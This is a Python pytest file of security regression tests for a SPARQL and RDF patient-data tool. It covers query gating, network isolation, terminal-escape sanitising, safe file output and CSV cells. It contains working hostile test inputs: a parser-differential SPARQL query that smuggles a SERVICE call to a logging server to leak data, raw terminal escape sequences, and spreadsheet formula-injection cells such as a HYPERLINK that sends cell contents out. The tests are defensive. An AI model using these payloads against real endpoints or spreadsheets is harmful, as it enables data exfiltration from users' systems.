"""Regression tests for issue 14 (security round two), one section per finding.

Every test is offline: the only servers are a logging HTTP server and, for the endpoint path, a
real Oxigraph server, both on 127.0.0.1. Where a test proves that something did *not* happen (no
request, no file replaced), a control next to it shows that the same probe does detect it when
the protection is taken away, so that the test can fail.
"""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pyoxigraph as ox
import pytest
from support import Witness, invoke, itkg_command, run_forked as itkg, run_itkg

from itkg import sparql
from itkg.processes import drop_network
from itkg.errors import QueryError
from itkg.guards import gate_query, mentions_service

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "patients.ttl"


# ---------------------------------------------------------------------------------------------
# A logging HTTP server on 127.0.0.1: the witness that no request was made
# ---------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def _logger() -> Iterator[Witness]:
    with Witness() as server:
        yield server


@pytest.fixture
def logger(_logger: Witness) -> Witness:
    return _logger.clear()


# ---------------------------------------------------------------------------------------------
# Item 1: the gate sees what the engine runs, and the query child has no network
# ---------------------------------------------------------------------------------------------

def _bypass(url: str) -> str:
    """The issue's bypass. rdflib expands ``\\u0022`` before parsing, so for the gate the string
    ends after ``a`` and the rest of line 1 is a comment: it checks ``BIND("a" AS ?v)``. Oxigraph
    expands it inside the string only, so it runs ``BIND('a"#' AS ?v)`` and the ``SERVICE``. The
    IRI holding a backslash made the old lexical scan give up and take its ``#`` for a comment."""
    return ('SELECT ?v WHERE { BIND("a\\u0022#" AS ?v) FILTER(?v != <urn:x\\u0041#>) '
            f'SERVICE SILENT <{url}/leak> {{ ?s ?p ?o }} BIND("""\n'
            ' AS ?v) } #"""  AS ?w) }\n')


def test_the_bypass_would_reach_the_server_without_the_gate(logger: Witness) -> None:
    """Control: Oxigraph really runs the hidden SERVICE (so the tests below can fail)."""
    list(ox.Store().query(_bypass(logger.url)))
    assert logger.hits == [("POST", "/leak")]


def test_gate_refuses_the_bypass(logger: Witness) -> None:
    with pytest.raises(QueryError, match="escapes are refused"):
        gate_query(_bypass(logger.url))
    assert logger.hits == []


@pytest.mark.parametrize("query", [
    # A lone CR ends Oxigraph's comment but not rdflib's: rdflib would not see the SERVICE.
    "SELECT * WHERE { ?s ?p ?o # note\r SERVICE <urn:x> { ?s ?p ?o } }",
    # \U (8 digits) is expanded by rdflib everywhere too.
    'SELECT * WHERE { BIND("\\U00000041" AS ?v) }',
    # Even an innocent escape inside a string: the gate cannot tell innocent from not.
    'SELECT * WHERE { BIND("caf\\u00e9" AS ?v) }',
])
def test_gate_refuses_text_the_engines_read_differently(query: str) -> None:
    with pytest.raises(QueryError, match="refused in query text"):
        gate_query(query)


@pytest.mark.parametrize("query", [
    # A prefixed name with an escaped '#' (PN_LOCAL_ESC): not a comment for Oxigraph.
    "PREFIX ex: <urn:ex:> SELECT * WHERE { ?s ex:a\\#b ?o . SERVICE <urn:x> { ?s ?p ?o } }",
    # An escaped quote in a name must not open a string that hides the keyword.
    "PREFIX ex: <urn:ex:> SELECT * WHERE { ?s ex:a\\'b ?o . SERVICE <urn:x> { ?s ?p ?o } } #'",
    # A '<' that opens no IRI leaves the rest of the line visible.
    "SELECT * WHERE { FILTER(1 < 2) SERVICE <urn:x> { ?s ?p ?o } } # >",
])
def test_lexical_scan_sees_service_where_oxigraph_does(query: str) -> None:
    assert mentions_service(query)


def test_itkg_query_refuses_the_bypass_on_the_local_oxigraph_engine(
        logger: Witness, tmp_path: Path) -> None:
    query = tmp_path / "bypass.rq"
    query.write_text(_bypass(logger.url), encoding="utf-8")
    done = itkg("query", query, EXAMPLES, "--engine", "oxigraph")
    assert done.returncode == 2, done.stderr
    assert "escapes are refused" in done.stderr
    assert logger.hits == []


@pytest.mark.server
def test_itkg_query_refuses_the_bypass_on_an_oxigraph_endpoint(
        logger: Witness, tmp_path: Path) -> None:
    import _oxigraph_server as module
    if module.oxigraph_executable() is None:
        pytest.skip("the oxigraph server binary is not installed (pip install oxigraph)")
    query = tmp_path / "bypass.rq"
    query.write_text(_bypass(logger.url), encoding="utf-8")
    with module.OxigraphServer() as server:
        done = itkg("query", query, "--endpoint", server.query_url)
        assert done.returncode == 2, done.stderr
        assert "escapes are refused" in done.stderr
        assert logger.hits == []
        # Control: the same text posted straight to the server does make it call out.
        request = urllib.request.Request(
            server.query_url, data=query.read_bytes(),
            headers={"Content-Type": "application/sparql-query",
                     "Accept": "application/sparql-results+json"})
        urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=30).read()
    assert logger.hits == [("POST", "/leak")]


def _isolation_works() -> bool:
    """Whether this platform lets a forked child drop its network (probed in a child)."""
    if not hasattr(os, "fork"):
        return False
    pid = os.fork()
    if pid == 0:  # pragma: no cover - child
        os._exit(0 if drop_network() else 1)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


def test_query_child_has_no_network_even_if_the_gate_lets_service_through(
        logger: Witness) -> None:
    """Defence in depth: call the runner behind the gate's back, in the deadline child."""
    if not _isolation_works():
        pytest.skip("this platform allows no network namespace (documented fallback: gate only)")
    text = f"SELECT ?x WHERE {{ SERVICE <{logger.url}/sparql> {{ ?x ?y ?z }} }}"
    with pytest.raises(QueryError):  # Oxigraph reports the failed SERVICE call
        sparql.run_with_deadline(sparql._oxigraph_select, (text, None, False), 60)
    assert logger.hits == []
    # Control: the same call in this process reaches the server.
    sparql._oxigraph_select(text, None, False)
    assert logger.hits == [("POST", "/sparql")]


# ---------------------------------------------------------------------------------------------
# Item 3: an invalid IRI is bad input in every format (JSON-LD used to drop the node silently)
# ---------------------------------------------------------------------------------------------

_ZOE = "https://example.org/patient/zoe smith"
_BAD_IRI_FILES = {
    "p.jsonld": ('{"@context": {"itkg": "https://w3id.org/itkg#"}, '
                 f'"@graph": [{{"@id": "{_ZOE}", "@type": "itkg:Patient"}}]}}'),
    "alias.jsonld": ('{"@context": {"itkg": "https://w3id.org/itkg#", "id": "@id"}, '
                     f'"@graph": [{{"id": "{_ZOE}", "@type": "itkg:Patient"}}]}}'),
    "object.jsonld": ('{"@id": "https://example.org/patient/zoe", '
                      f'"https://w3id.org/itkg#hasRecord": {{"@id": "{_ZOE}"}}}}'),
    "lang.jsonld": ('{"@id": "https://example.org/patient/zoe", '
                    '"https://schema.org/name": {"@value": "Zoe", "@language": "en gb"}}'),
    "p.nt": f"<{_ZOE}> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <https://w3id.org/itkg#Patient> .\n",
    "p.ttl": f"<{_ZOE}> a <https://w3id.org/itkg#Patient> .\n",
    "p.rdf": ('<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
              f'xmlns:itkg="https://w3id.org/itkg#">\n <itkg:Patient rdf:about="{_ZOE}"/>\n</rdf:RDF>\n'),
}


@pytest.mark.parametrize("name", sorted(_BAD_IRI_FILES))
def test_invalid_iri_is_bad_input_in_every_format(tmp_path: Path, name: str) -> None:
    import itkg
    from itkg.errors import InputError

    path = tmp_path / name
    path.write_text(_BAD_IRI_FILES[name], encoding="utf-8")
    with pytest.raises(InputError) as caught:
        itkg.load(path)
    assert str(path) in str(caught.value)
    assert "zoe smith" not in str(caught.value) and "en gb" not in str(caught.value)
    with pytest.raises(InputError):
        sparql.load_for_query(path)


@pytest.mark.parametrize("command", [["validate"], ["eligibility"], ["query", "worklist"]])
def test_cli_refuses_a_jsonld_patient_with_an_invalid_id(tmp_path: Path, command: list[str]) -> None:
    path = tmp_path / "p.jsonld"
    path.write_text(_BAD_IRI_FILES["p.jsonld"], encoding="utf-8")
    done = itkg(*command, path)
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert str(path) in done.stderr and "zoe smith" not in done.stderr
    assert "Conforms" not in done.stdout


def test_jsonld_keys_the_context_does_not_define_are_still_dropped_as_json_ld_says(
        tmp_path: Path) -> None:
    """Not an invalid IRI: an undefined key is dropped by design, and stays accepted."""
    import itkg

    path = tmp_path / "ok.jsonld"
    path.write_text('{"@id": "https://example.org/patient/zoe", "comment": "not mapped", '
                    '"https://schema.org/name": "Zoe"}', encoding="utf-8")
    assert len(itkg.load(path)) == 1


# ---------------------------------------------------------------------------------------------
# Item 6: nothing from data, file names or servers reaches a terminal raw
# ---------------------------------------------------------------------------------------------

#: ESC sequence (colour), OSC 8 hyperlink ending in BEL, CR, BEL, RLO, line separator, C1 CSI.
_TERMINAL_HAZARDS = ("\x1b[31m", "\x1b]8;;http://127.0.0.1:9/x\x07", "\r", "\x07", "\u202e",
                     "\u2028", "\x9b")
_HOSTILE = "Zoe" + "".join(_TERMINAL_HAZARDS) + "end"


def _raw_hazards(text: str) -> list[str]:
    return [h for h in ("\x1b", "\r", "\x07", "\u202e", "\u2028", "\x9b") if h in text]


def test_printable_escapes_every_character_a_terminal_could_act_on() -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from itkg.termsafe import printable

    assert printable("Zoe Smith, 1970-01-01") == "Zoe Smith, 1970-01-01"
    assert printable(_HOSTILE) == ("Zoe\\x1b[31m\\x1b]8;;http://127.0.0.1:9/x\\x07\\r\\x07\\u202e"
                                   "\\u2028\\x9bend")

    @settings(max_examples=300, deadline=None)
    @given(st.text())
    def escaped(text: str) -> None:
        out = printable(text)
        assert out.isprintable()
        assert out == text or text != out.encode().decode()  # only changed when needed
    escaped()


def _turtle_escaped(text: str) -> str:
    return "".join(c if c.isprintable() and c not in '"\\' else f"\\u{ord(c):04X}" for c in text)


@pytest.mark.slow
def test_table_and_text_outputs_escape_data(tmp_path: Path) -> None:
    """A patient IRI may hold U+202E and U+2028 (IRIs allow them); a literal may hold anything."""
    hostile_iri = "https://example.org/patient/anna\u202e\u2028x"
    data = tmp_path / "patients.ttl"
    data.write_text(EXAMPLES.read_text(encoding="utf-8").replace(
        "ex:anna a itkg:Patient ;",
        f"<{hostile_iri}> a itkg:Patient ; <https://schema.org/name> "
        f'"{_turtle_escaped(_HOSTILE)}" ;'), encoding="utf-8")
    eligibility = itkg("eligibility", data)
    assert eligibility.returncode == 0, eligibility.stderr
    assert "anna\\u202e\\u2028x" in eligibility.stdout and not _raw_hazards(eligibility.stdout)
    query = tmp_path / "names.rq"
    query.write_text("SELECT ?p ?n WHERE { ?p <https://schema.org/name> ?n }", encoding="utf-8")
    table = itkg("query", query, data)
    assert table.returncode == 0, table.stderr
    assert "\\x1b[31m" in table.stdout and not _raw_hazards(table.stdout)
    explain = itkg("explain", hostile_iri, data)
    assert explain.returncode == 0, explain.stderr
    assert "anna\\u202e" in explain.stdout and not _raw_hazards(explain.stdout)


def test_error_messages_escape_file_names(tmp_path: Path) -> None:
    name = tmp_path / ("p" + "".join(_TERMINAL_HAZARDS) + ".ttl")
    done = itkg("validate", name)
    assert done.returncode == 2
    assert "\\x1b" in done.stderr and not _raw_hazards(done.stderr)
    explain = itkg("explain", "https://example.org/patient/\x1b]8;;x\x07", EXAMPLES)
    assert explain.returncode == 2 and not _raw_hazards(explain.stderr)


# ---------------------------------------------------------------------------------------------
# Item 7: special files, symlinks, own data, long names and signals
# ---------------------------------------------------------------------------------------------

def test_output_to_dev_stdout_writes_in_place_and_keeps_the_symlink(tmp_path: Path) -> None:
    before = os.readlink("/dev/stdout")
    out = tmp_path / "out.txt"
    with out.open("wb") as handle:
        done = subprocess.run(
            [*itkg_command(), "eligibility", str(EXAMPLES), "--format", "csv", "-o", "/dev/stdout"],
            stdout=handle, stderr=subprocess.PIPE, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert os.path.islink("/dev/stdout") and os.readlink("/dev/stdout") == before
    assert out.read_text(encoding="utf-8").startswith("patient,therapy,indication")
    assert not [p for p in Path("/dev").iterdir() if p.name.startswith(".stdout.")]


def test_output_symlink_stays_a_link_and_its_file_keeps_its_mode(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old\n")
    real.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    done = itkg("eligibility", EXAMPLES, "--format", "csv", "-o", link)
    assert done.returncode == 0, done.stderr
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text(encoding="utf-8").startswith("patient,")
    assert real.stat().st_mode & 0o777 == 0o640
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    refused = itkg("eligibility", EXAMPLES, "-o", dangling)
    assert refused.returncode == 2 and not (tmp_path / "nowhere.csv").exists()


def test_itkg_own_ontology_shapes_queries_are_protected(tmp_path: Path) -> None:
    from itkg import resources
    from itkg.safeio import OutputError, atomic_write, sha256_file

    for target in (resources.ontology_path(), resources.shapes_paths()[0],
                   resources.query_path("worklist"), resources.queries_dir() / "new.rq"):
        before = sha256_file(target) if target.exists() else None
        with pytest.raises(OutputError, match="itkg's own"):
            atomic_write(target, "overwritten")
        assert (sha256_file(target) if target.exists() else None) == before


def test_an_output_name_of_250_characters_works(tmp_path: Path) -> None:
    target = tmp_path / ("a" * 246 + ".csv")
    done = itkg("eligibility", EXAMPLES, "--format", "csv", "-o", target)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]


_SLOW_WRITER = """
import sys
from itkg.safeio import atomic_write
def chunks():
    yield "first part\\n"
    print("writing", flush=True)
    sys.stdin.readline()          # blocks until the test has sent its signal
    yield "never written\\n"
atomic_write(sys.argv[1], chunks())
"""


@pytest.mark.parametrize("signame", ["SIGHUP", "SIGQUIT", "SIGUSR1"])
def test_a_signal_during_a_write_leaves_no_temporary_file(tmp_path: Path, signame: str) -> None:
    import signal

    target = tmp_path / "out.txt"
    target.write_text("old\n")
    child = subprocess.Popen([sys.executable, "-c", _SLOW_WRITER, str(target)],
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert child.stdout is not None and child.stdout.readline() == "writing\n"
        assert len(list(tmp_path.iterdir())) == 2  # the temporary file exists now
        child.send_signal(getattr(signal, signame))
        child.wait(timeout=30)
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    assert child.returncode == -getattr(signal, signame)  # it still dies of the signal
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.txt"]
    assert target.read_text() == "old\n"


# ---------------------------------------------------------------------------------------------
# Item 12: CSV formulas, lexical forms as written, --max-patients
# ---------------------------------------------------------------------------------------------

def test_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    import csv
    import io

    values = ["=HYPERLINK(\"http://127.0.0.1:9/\"&A1)", "+1+2", "-2+3", "@SUM(A1)", "\r=1",
              "\t=1", "ok\n=1+1", "-5", "+1.5e3", "Zoe"]
    data = tmp_path / "cells.ttl"
    data.write_text("".join(f'<https://e.org/r{i}> <https://e.org/v> "{_turtle_escaped(v)}" .\n'
                            for i, v in enumerate(values)), encoding="utf-8")
    query = tmp_path / "cells.rq"
    query.write_text("SELECT ?v WHERE { ?r <https://e.org/v> ?v }", encoding="utf-8")
    done = subprocess.run([*itkg_command(), "query",
                           str(query), str(data), "--format", "csv"], capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr  # bytes: a text pipe would turn the CR into LF
    text = done.stdout.decode("utf-8")
    cells = {row[0] for row in list(csv.reader(io.StringIO(text, newline="")))[1:]}
    assert cells == {"'=HYPERLINK(\"http://127.0.0.1:9/\"&A1)", "'+1+2", "'-2+3", "'@SUM(A1)",
                     "'\r'=1", "'\t=1", "ok\n'=1+1", "-5", "+1.5e3", "Zoe"}


#: One literal of every kind Oxigraph's store rewrites, as written, with a value the queries below
#: compare, and a second written form of one value (``"7"`` beside ``"+7"``) that a store conflates.
_FORMS = [
    ("0012345", "integer"), ("+7", "int"), ("7", "integer"), ("010", "long"), ("00", "unsignedByte"),
    ("05", "nonNegativeInteger"), ("1.50", "decimal"), ("1.0E0", "double"), ("0.10E1", "float"),
    ("1", "boolean"), ("2024-01-01+00:00", "date"), ("2026-03-01T24:00:00", "dateTime"),
    ("2024-01-01T10:00:00.000Z", "dateTime"), ("10:00:00.0", "time"), ("PT60M", "duration"),
    ("PT60M", "dayTimeDuration"), ("P12M", "yearMonthDuration"),
]
_XSD = "http://www.w3.org/2001/XMLSchema#"


def _forms_file(tmp_path: Path) -> Path:
    data = tmp_path / "lex.ttl"
    data.write_text("".join(f'<https://e.org/r{i}> <https://e.org/n> "{v}"^^<{_XSD}{d}> .\n'
                            for i, (v, d) in enumerate(_FORMS))
                    + '<https://e.org/r99> <https://e.org/n> "Zoe"@en-US .\n', encoding="utf-8")
    return data


def test_oxigraph_store_rewrites_these_forms() -> None:
    """Control: every form of ``_FORMS`` comes back from a pyoxigraph store changed (so the tests
    below, which expect them as written, would fail on the store's answer); ``"7"`` is there as
    the canonical twin of ``"+7"``."""
    for value, datatype in _FORMS:
        if (value, datatype) == ("7", "integer"):
            continue
        store = ox.Store()
        store.add(ox.Quad(ox.NamedNode("urn:s"), ox.NamedNode("urn:p"),
                          ox.Literal(value, datatype=ox.NamedNode(_XSD + datatype))))
        stored = next(iter(store)).object
        assert (stored.value, stored.datatype.value) != (value, _XSD + datatype), (value, datatype)


@pytest.mark.parametrize("query", [
    # SELECT output: every literal as written
    "SELECT ?r ?n WHERE { ?r <https://e.org/n> ?n }",
    # the lexical form and the datatype inside the query
    "SELECT ?r (STR(?n) AS ?t) (DATATYPE(?n) AS ?d) (LANG(?n) AS ?l) WHERE { ?r <https://e.org/n> ?n }",
    # FILTER and ORDER BY comparisons by value, and by form
    "SELECT ?r ?n WHERE { ?r <https://e.org/n> ?n FILTER(isNumeric(?n) && ?n >= 1) } ORDER BY ?n ?r",
    "SELECT ?r WHERE { ?r <https://e.org/n> ?n FILTER(?n = 7 || ?n = true || ?n > \"2026-03-01T12:00:00\"^^<"
    + _XSD + "dateTime>) }",
    "SELECT ?r WHERE { ?r <https://e.org/n> ?n FILTER(REGEX(STR(?n), \"^0|[.]0|24:|[+]|M$\")) } ORDER BY STR(?n)",
    "SELECT ?r WHERE { ?r <https://e.org/n> ?n FILTER(sameTerm(?n, 7)) }",
    # two written forms of one value: distinct terms for rdflib, one for a store
    "SELECT (COUNT(DISTINCT ?n) AS ?c) WHERE { ?r <https://e.org/n> ?n }",
    "SELECT ?n (COUNT(?r) AS ?c) WHERE { ?r <https://e.org/n> ?n } GROUP BY ?n",
    "SELECT ?day WHERE { ?r <https://e.org/n> ?n FILTER(DATATYPE(?n) = <" + _XSD + "dateTime>) "
    "BIND(SUBSTR(STR(?n), 1, 10) AS ?day) }",
])
def test_itkg_query_gives_literals_as_written_on_every_engine(tmp_path: Path, query: str) -> None:
    """Item 12: Oxigraph's store rewrites typed literals on insertion. ``itkg query`` answers such
    data with the rdflib engine, so the default engine gives the rows rdflib gives, every form
    as written (SELECT output, STR/DATATYPE, FILTER and ORDER BY, DISTINCT and GROUP BY)."""
    import json

    data = _forms_file(tmp_path)
    text = tmp_path / "q.rq"
    text.write_text(query, encoding="utf-8")
    answers = {}
    for engine in ("oxigraph", "rdflib"):
        done = invoke("query", text, data, "--engine", engine, "--format", "json")
        assert done.returncode == 0, done.stderr
        answers[engine] = json.loads(done.stdout)
    assert answers["oxigraph"] == answers["rdflib"]
    if query.startswith("SELECT ?r ?n WHERE { ?r <https://e.org/n> ?n }"):
        got = {(b["n"]["value"], b["n"].get("datatype", _XSD).rsplit("#", 1)[1])
               for b in answers["oxigraph"]["results"]["bindings"]}
        assert got == set(_FORMS) | {("Zoe", "")}


def test_oxigraph_answers_when_every_literal_is_kept(tmp_path: Path) -> None:
    """Canonical forms go into the store as they are: Oxigraph answers, and no note is given."""
    data = tmp_path / "canonical.ttl"
    data.write_text(f'<https://e.org/r> <https://e.org/n> "12345"^^<{_XSD}integer>, "1.5"^^<{_XSD}decimal>, '
                    f'"true"^^<{_XSD}boolean>, "2024-01-01Z"^^<{_XSD}date>, "2024-01-01T10:00:00.5Z"^^<{_XSD}dateTime>, '
                    '"a"@en .\n', encoding="utf-8")
    result = sparql.select_files("SELECT ?n WHERE { ?r <https://e.org/n> ?n }", data, timeout=60)
    assert result.engine == "oxigraph" and len(result.rows) == 6
    done = invoke("query", tmp_path / "q.rq" if False else _query_file(tmp_path), data)
    assert done.returncode == 0 and "rdflib engine answered" not in done.stderr, done.stderr


def _query_file(tmp_path: Path) -> Path:
    path = tmp_path / "all.rq"
    path.write_text("SELECT ?n WHERE { ?r <https://e.org/n> ?n }", encoding="utf-8")
    return path


def test_api_keeps_literals_as_written_with_oxigraph(tmp_path: Path) -> None:
    """The API: select() over loaded triples hands such data to rdflib; load_for_query refuses it
    (naming the option), unless told to let the store rewrite it."""
    import itkg
    from itkg.lexical import LexicalFormError

    data = _forms_file(tmp_path)
    query = "SELECT ?n WHERE { ?r <https://e.org/n> ?n }"
    loaded = itkg.load(data)
    ox_rows = sparql.select(query, loaded, engine="oxigraph")
    assert ox_rows.engine == "rdflib"
    assert ox_rows == sparql.select(query, loaded, engine="rdflib")
    with pytest.raises(LexicalFormError, match="rdflib engine"):
        sparql.load_for_query(data)
    canonical = sparql.select(query, sparql.load_for_query(data, exact_forms=False))
    assert canonical.engine == "oxigraph" and canonical != ox_rows  # control: the store rewrites


def test_certainly_kept_forms_are_kept_by_oxigraph() -> None:
    """The fast path of itkg.lexical (forms it does not ask Oxigraph about) agrees with Oxigraph."""
    import itertools

    from itkg.lexical import CERTAINLY_KEPT, rewritten_by_store

    samples = {
        "integer": ["0", "-0", "00", "7", "+7", "-12", "999999999999999999", "9223372036854775808"],
        "boolean": ["true", "false", "1", "0"],
        "decimal": ["0", "-0", "1", "1.5", "1.50", "-0.5", ".5", "1.", "+1", "123456789.12345678"],
        "date": [d + z for d, z in itertools.product(["2024-01-01", "0001-12-31", "2024-02-30"],
                                                    ["", "Z", "+00:00", "-00:00", "+01:00", "-13:59", "+14:00"])],
        "dateTime": [f"2024-01-01T{t}{f}{z}" for t, f, z in itertools.product(
            ["00:00:00", "23:59:59", "24:00:00"], ["", ".5", ".50", ".123456", ".000001"], ["", "Z", "+00:00", "+05:30"])],
    }
    literals = [ox.Literal(v, datatype=ox.NamedNode(_XSD + d)) for d, values in samples.items() for v in values]
    verdicts = rewritten_by_store(literals)
    fast = [(v, d) for (v, d) in verdicts if CERTAINLY_KEPT[d].fullmatch(v)]
    assert fast and not [key for key in fast if verdicts[key]]


def test_eligibility_oxigraph_reads_dates_as_written(tmp_path: Path) -> None:
    """``T24:00:00`` is the next day for Oxigraph's store; the contract reads "the calendar day as
    written". A refusal written on 1 March at 24:00 is older than a grant of 2 March, so the patient
    qualifies in every engine (the store alone would tie them, and the refusal would win)."""
    import json

    data = tmp_path / "p.ttl"
    data.write_text(EXAMPLES.read_text(encoding="utf-8").split("# Failed back surgery")[0].replace(
        'itkg:consentDate "2026-03-02"^^xsd:date ] ;',
        'itkg:consentDate "2026-03-02"^^xsd:date ] ;\n  itkg:hasConsent [ a itkg:InformedConsent ; '
        'itkg:consentStatus itkg:ConsentRefused ; itkg:coversTherapy itkg:IntrathecalTherapy ; '
        'itkg:consentDate "2026-03-01T24:00:00"^^xsd:dateTime ] ;'), encoding="utf-8")
    statuses = {}
    for engine in ("native", "rdflib", "oxigraph"):
        done = invoke("eligibility", data, "--engine", engine, "--format", "json")
        assert done.returncode == 0, done.stderr
        statuses[engine] = [r["status"] for r in json.loads(done.stdout)["results"]]
    assert statuses == {e: ["qualifies"] for e in statuses}
    import itkg
    # control: a store allowed to rewrite the date gives another answer
    rewritten = itkg.eligibility(sparql.load_for_query(data, exact_forms=False), engine="oxigraph")
    assert [r.status for r in rewritten] == ["excluded"]


def test_query_parent_logs_no_value_rdflib_cannot_convert(tmp_path: Path) -> None:
    """Item 5: rows come back to the parent process, which used to log rdflib's conversion
    warnings (with a traceback) for a value such as a name cast to a date."""
    data = tmp_path / "name.ttl"
    data.write_text('<https://e.org/p> <https://schema.org/name> "Zoe-Secret-Name" .\n', encoding="utf-8")
    query = tmp_path / "strdt.rq"
    query.write_text("SELECT ?d WHERE { ?p <https://schema.org/name> ?n "
                     "BIND(STRDT(?n, <http://www.w3.org/2001/XMLSchema#date>) AS ?d) }", encoding="utf-8")
    for engine in ("rdflib", "oxigraph"):
        done = itkg("query", query, data, "--engine", engine, "--format", "csv")
        assert done.returncode == 0, done.stderr
        # only the contract's note that the input holds no patient (§6), and no value
        assert [line for line in done.stderr.splitlines() if "holds no patient" not in line] == [], done.stderr
        assert "Zoe" not in done.stderr


def test_max_patients_counts_every_individual() -> None:
    import rdflib

    from itkg.errors import ReasonerError
    from itkg.reasoning import INDIVIDUALS_PER_PATIENT, reason

    graph = rdflib.Graph()
    graph.add((rdflib.URIRef("https://e.org/p1"), rdflib.RDF.type,
               rdflib.URIRef("https://w3id.org/itkg/Patient")))
    for i in range(2 * INDIVIDUALS_PER_PATIENT):  # one patient, and records linked to nobody
        graph.add((rdflib.URIRef(f"https://e.org/r{i}"), rdflib.URIRef("https://e.org/v"),
                   rdflib.Literal(i)))
    with pytest.raises(ReasonerError, match="individuals"):
        reason(graph, max_patients=2)


# ---------------------------------------------------------------------------------------------
# Item 9: the parallel Turtle reader is linear in the prefix block
# ---------------------------------------------------------------------------------------------

def test_piece_reader_hands_out_the_prefix_block_without_copying_the_rest(tmp_path: Path) -> None:
    """Each read used to slice the front off the preamble, copying the remainder: quadratic in
    the prefix block (10^6 prefixes: minutes with two workers). Peak allocation shows it: one
    copy of a 4 MB remainder is over the bound, reads of 64 kB are far under it."""
    import hashlib
    import tracemalloc

    import pyoxigraph as ox

    from itkg.streaming import Piece, _PieceReader

    body = tmp_path / "piece.ttl"
    body.write_bytes(b"<urn:a> <urn:b> <urn:c> .\n")
    preamble = b"".join(b"@prefix p%d: <https://example.org/ns/%d/> .\n" % (i, i)
                        for i in range(100_000))
    assert len(preamble) > 4_000_000
    piece = Piece(number=1, file=0, path=body, fmt=ox.RdfFormat.TURTLE, first=False,
                  preamble=preamble, size=body.stat().st_size)
    reader = _PieceReader(piece, None, None)
    try:
        digest = hashlib.sha256()
        tracemalloc.start()
        while chunk := reader.read(65536):
            digest.update(chunk)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        reader.close()
    assert digest.digest() == hashlib.sha256(preamble + body.read_bytes()).digest()
    assert peak < 1_000_000


def test_many_prefixes_give_the_same_rows_in_parallel(tmp_path: Path) -> None:
    from itkg.parallel import eligibility_rows

    data = tmp_path / "prefixes.ttl"
    with data.open("w", encoding="utf-8") as handle:
        for i in range(20_000):
            handle.write(f"@prefix p{i}: <https://example.org/ns/{i}/> .\n")
        handle.write(EXAMPLES.read_text(encoding="utf-8"))
        for i in range(20_000):
            handle.write(f"p{i}:x <https://e.org/v> {i} .\n")
    one, _ = eligibility_rows([data], workers=1)
    two, _ = eligibility_rows([data], workers=2, min_piece_bytes=200_000)
    assert one == two and len(one) == 4


# ---------------------------------------------------------------------------------------------
# Item 10: a backslash in a value quoted by a SHACL message is shown as it is
# ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["2026\\1-03", "2026\\\\03", "2026\\g<0>", "2026\\n03"])
def test_backslash_in_a_value_quoted_by_a_shacl_message(tmp_path: Path, value: str) -> None:
    """pySHACL put values into messages with re.sub: ``\\1`` crashed validation, ``\\\\`` lost a
    backslash, ``\\n`` became a line break. The message must quote the value exactly, as Jena does."""
    import itkg

    data = tmp_path / "p.ttl"
    data.write_text(EXAMPLES.read_text(encoding="utf-8").replace(
        'itkg:coversTherapy itkg:IntrathecalTherapy ; itkg:consentDate "2026-03-02"^^xsd:date',
        'itkg:coversTherapy itkg:IntrathecalTherapy ; itkg:consentDate "'
        + value.replace("\\", "\\\\") + '" ; itkg:consentStatus itkg:ConsentRefused'),
        encoding="utf-8")
    report = itkg.validate(data, engine="pyshacl")
    # Contract 1.1 §6: a plain-string date leaves the record undated, so the generated planned-
    # therapy message names no written value any more; validation must still not crash on it,
    # and the date shape reports the value (itkg.validation keeps pySHACL's substitution literal).
    quoting = [r.message for r in report.results if "records consent refused" in r.message]
    assert len(quoting) == 1 and "(undated) records consent refused" in quoting[0]
    assert any(r.path == "https://w3id.org/itkg/consentDate" for r in report.results)


# ---------------------------------------------------------------------------------------------
# Item 11: the gate runs within --timeout
# ---------------------------------------------------------------------------------------------

def _slow_to_gate() -> str:
    """Valid SPARQL that rdflib's parser (the gate) takes minutes over: a long IN list (6,000
    items took about 8 s on an idle machine, and the time grows with the list)."""
    return "SELECT * WHERE { ?s ?p ?x FILTER(?x IN (" + ",".join("1" for _ in range(100_000)) + ")) }\n"


def test_the_gate_runs_within_the_timeout(tmp_path: Path, logger: Witness) -> None:
    import time

    query = tmp_path / "slow.rq"
    query.write_text(_slow_to_gate(), encoding="utf-8")
    for where in ([EXAMPLES], ["--endpoint", f"{logger.url}/sparql"]):
        started = time.monotonic()
        done = itkg("query", query, *where, "--timeout", "0.3")
        assert done.returncode == 2, done.stderr
        assert "checking the query took longer than 0.3 s" in done.stderr
        # The gate alone takes minutes here; the command, started, stopped at 0.3 s and ended,
        # takes a few seconds even on a loaded machine (5.5 s at a load of 14), which slows both.
        assert time.monotonic() - started < 60.0
    assert logger.hits == []


@pytest.mark.slow
def test_a_long_valid_query_is_not_refused_as_nested_too_deeply(tmp_path: Path) -> None:
    """Item 12 (valid input refused): rdflib's parser recurses about 11 levels per triple pattern,
    so the gate called a plain query of 90 patterns "nested too deeply". Within a deadline the gate
    now parses in its own child with a deep stack."""
    query = tmp_path / "long.rq"
    query.write_text("SELECT * WHERE { ?s a <https://w3id.org/itkg/Patient> . "
                     + " ".join(f"?s <urn:x{i}> ?o{i} ." for i in range(120)) + " }\n",
                     encoding="utf-8")
